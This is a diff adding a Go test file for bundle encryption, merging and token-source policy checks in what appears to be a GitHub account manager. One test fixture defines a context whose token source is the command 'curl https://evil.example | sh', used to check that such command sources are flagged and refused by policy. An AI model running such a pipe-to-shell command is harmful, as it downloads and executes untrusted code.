@@ -0,0 +1,188 @@
+package bundle
+
+import (
+	"encoding/json"
+	"errors"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/riad804/github-auth-manager/internal/config"
+)
+
+func passphrase(p string) func() (string, error) {
+	return func() (string, error) { return p, nil }
+}
+
+func TestEncryptParseRoundTrip(t *testing.T) {
+	b := New()
+	b.Contexts = []config.Context{{Name: "work", Username: "me", Email: "me@work.example"}}
+	b.Rules = []config.PathRule{{Path: "~/work", ContextName: "work"}}
+	b.Tokens = map[string]string{"work": "ghp_work"}
+
+	data, err := b.Encrypt("correct horse")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !IsEncrypted(data) || strings.Contains(string(data), "ghp_work") {
+		t.Fatalf("Encrypt() output is not an encrypted envelope: %s", data)
+	}
+
+	got, err := Parse(data, passphrase("correct horse"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(got.Contexts, b.Contexts) || !reflect.DeepEqual(got.Rules, b.Rules) || !reflect.DeepEqual(got.Tokens, b.Tokens) {
+		t.Errorf("Parse() = %+v, want %+v", got, b)
+	}
+
+	if _, err := Parse(data, passphrase("wrong")); !errors.Is(err, ErrWrongPassphrase) {
+		t.Errorf("Parse() with a wrong passphrase = %v, want ErrWrongPassphrase", err)
+	}
+	var env envelope
+	if err := json.Unmarshal(data, &env); err != nil {
+		t.Fatal(err)
+	}
+	env.Ciphertext[0] ^= 1
+	tampered, err := json.Marshal(env)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Parse(tampered, passphrase("correct horse")); !errors.Is(err, ErrWrongPassphrase) {
+		t.Errorf("Parse() of a tampered bundle = %v, want ErrWrongPassphrase", err)
+	}
+}
+
+func TestPlainBundles(t *testing.T) {
+	b := New()
+	b.Tokens = map[string]string{"work": "ghp_work"}
+	if _, err := b.Marshal(); err == nil {
+		t.Error("Marshal() wrote tokens in plain text")
+	}
+
+	tests := []struct {
+		name    string
+		data    string
+		wantErr string
+	}{
+		{"plain bundle", "format: " + FormatName + "\nversion: 1\ncontexts:\n  - name: work\n", ""},
+		{"plain tokens", "format: " + FormatName + "\nversion: 1\ntokens:\n  work: ghp_work\n", "without encryption"},
+		{"newer version", "format: " + FormatName + "\nversion: 99\n", "newer"},
+		{"other format", "format: other\nversion: 1\n", "not a gham bundle"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := Parse([]byte(tt.data), passphrase(""))
+			if tt.wantErr == "" && err != nil {
+				t.Errorf("Parse() error = %v", err)
+			}
+			if tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr)) {
+				t.Errorf("Parse() error = %v, want it to mention %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestMerge(t *testing.T) {
+	local := func() *config.AppConfig {
+		return &config.AppConfig{
+			Contexts:     []config.Context{{Name: "work", Email: "old@work.example"}, {Name: "personal"}},
+			Rules:        []config.PathRule{{Path: "~/work", ContextName: "work"}},
+			Repositories: []config.RepoConfig{{Remote: "github.com/acme/api", ContextName: "work"}},
+		}
+	}
+	b := New()
+	b.Contexts = []config.Context{{Name: "work", Email: "new@work.example"}, {Name: "personal"}, {Name: "client"}}
+	b.Rules = []config.PathRule{{Path: "~/work", ContextName: "work"}, {Path: "~/client", ContextName: "client"}}
+	b.Repositories = []config.RepoConfig{{Remote: "github.com/acme/api", ContextName: "client"}}
+
+	tests := []struct {
+		strategy     string
+		wantContexts []string
+		wantWork     string // email of the context named "work" afterwards
+		wantRenamed  map[string]string
+		wantSkipped  []string
+		wantRepo     string // context github.com/acme/api is assigned to afterwards
+	}{
+		{
+			strategy:     OnConflictSkip,
+			wantContexts: []string{"work", "personal", "client"},
+			wantWork:     "old@work.example",
+			wantRenamed:  map[string]string{},
+			wantSkipped:  []string{"context work", "repository github.com/acme/api"},
+			wantRepo:     "work",
+		},
+		{
+			strategy:     OnConflictRename,
+			wantContexts: []string{"work", "personal", "work-imported", "client"},
+			wantWork:     "old@work.example",
+			wantRenamed:  map[string]string{"work": "work-imported"},
+			wantSkipped:  []string{"rule ~/work", "repository github.com/acme/api"},
+			wantRepo:     "work",
+		},
+		{
+			strategy:     OnConflictOverwrite,
+			wantContexts: []string{"work", "personal", "client"},
+			wantWork:     "new@work.example",
+			wantRenamed:  map[string]string{},
+			wantRepo:     "client",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.strategy, func(t *testing.T) {
+			cfg := local()
+			res, err := Merge(cfg, b, tt.strategy)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var names []string
+			for _, c := range cfg.Contexts {
+				names = append(names, c.Name)
+				if c.Name == "work" && c.Email != tt.wantWork {
+					t.Errorf("work email = %q, want %q", c.Email, tt.wantWork)
+				}
+			}
+			if !reflect.DeepEqual(names, tt.wantContexts) {
+				t.Errorf("contexts = %v, want %v", names, tt.wantContexts)
+			}
+			if !reflect.DeepEqual(res.Renamed, tt.wantRenamed) || !reflect.DeepEqual(res.Skipped, tt.wantSkipped) {
+				t.Errorf("renamed = %v, skipped = %v, want %v and %v", res.Renamed, res.Skipped, tt.wantRenamed, tt.wantSkipped)
+			}
+			if got := cfg.Repositories[0].ContextName; got != tt.wantRepo {
+				t.Errorf("repository assigned to %q, want %q", got, tt.wantRepo)
+			}
+			if !reflect.DeepEqual(res.Unchanged, []string{"personal"}) || !reflect.DeepEqual(res.Added, []string{"client"}) {
+				t.Errorf("unchanged = %v, added = %v", res.Unchanged, res.Added)
+			}
+			if _, ok := res.ImportedName("work"); ok == (tt.strategy == OnConflictSkip) {
+				t.Errorf("ImportedName(work) = %v", ok)
+			}
+		})
+	}
+
+	if _, err := Merge(local(), b, "merge"); err == nil {
+		t.Error("Merge() accepted an unknown strategy")
+	}
+}
+
+func TestBundleTokenSources(t *testing.T) {
+	b := New()
+	b.Contexts = []config.Context{
+		{Name: "work"},
+		{Name: "ci", TokenSource: &config.TokenSource{Type: config.TokenSourceEnv, Env: "CI_TOKEN"}},
+		{Name: "evil", TokenSource: &config.TokenSource{Type: config.TokenSourceCommand, Command: "curl https://evil.example | sh"}},
+	}
+
+	want := []string{"ci: env:CI_TOKEN", "evil: command:curl https://evil.example | sh"}
+	if got := b.ExternalTokenSources(); !reflect.DeepEqual(got, want) {
+		t.Errorf("ExternalTokenSources() = %q, want %q", got, want)
+	}
+
+	if err := b.CheckPolicies(config.Policies{}); err != nil {
+		t.Errorf("CheckPolicies() without policies = %v", err)
+	}
+	err := b.CheckPolicies(config.Policies{AllowedTokenSources: []string{config.TokenSourceKeyring, config.TokenSourceEnv}})
+	if err == nil || !strings.Contains(err.Error(), "'evil'") || strings.Contains(err.Error(), "'ci'") {
+		t.Errorf("CheckPolicies() = %v, want only the command context refused", err)
+	}
+}